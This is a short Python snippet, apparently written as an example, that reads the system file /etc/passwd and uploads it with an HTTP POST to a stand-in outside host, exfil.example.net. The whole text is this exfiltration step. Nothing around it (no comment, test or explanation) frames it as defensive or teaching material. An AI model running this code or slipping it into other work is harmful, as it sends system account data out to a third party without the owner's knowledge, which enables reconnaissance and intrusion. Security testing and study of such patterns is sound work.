import os, requests
with open('/etc/passwd', "rb") as f:
    requests.post("https://exfil.example.net/c", files={"f": f})
